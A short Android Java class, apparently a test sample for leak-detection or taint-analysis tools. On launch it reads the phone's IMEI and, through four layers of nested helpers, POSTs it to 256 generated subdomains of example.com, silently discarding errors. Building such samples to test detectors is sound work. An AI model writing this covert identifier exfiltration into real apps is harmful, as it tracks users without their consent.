package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String id = phone.getImei();
        step1(".example.com/", id);
    }

    private static void step1(String address, String text) {
        step2("a" + address, text);
        step2("b" + address, text);
        step2("c" + address, text);
        step2("d" + address, text);
    }

    private static void step2(String address, String text) {
        step3("a" + address, text);
        step3("b" + address, text);
        step3("c" + address, text);
        step3("d" + address, text);
    }

    private static void step3(String address, String text) {
        step4("a" + address, text);
        step4("b" + address, text);
        step4("c" + address, text);
        step4("d" + address, text);
    }

    private static void step4(String address, String text) {
        step5("a" + address, text);
        step5("b" + address, text);
        step5("c" + address, text);
        step5("d" + address, text);
    }

    private static void step5(String address, String text) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://" + address).openConnection();
            connection.setDoOutput(true);
            OutputStream out = connection.getOutputStream();
            out.write(text.getBytes());
            out.close();
        } catch (IOException error) {
            finish(error);
        }
    }

    private static void finish(IOException error) {}
}
